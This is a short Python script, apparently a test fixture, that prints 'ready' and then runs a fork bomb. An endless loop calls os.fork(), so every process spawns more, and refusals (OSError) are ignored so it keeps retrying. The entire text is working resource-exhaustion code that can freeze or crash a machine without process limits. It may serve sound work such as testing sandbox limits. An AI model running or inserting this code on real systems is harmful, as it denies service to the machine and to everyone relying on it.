# Attempts: processes without end. Each makes more of them, and tries again where it is refused.
import os

print('ready', flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
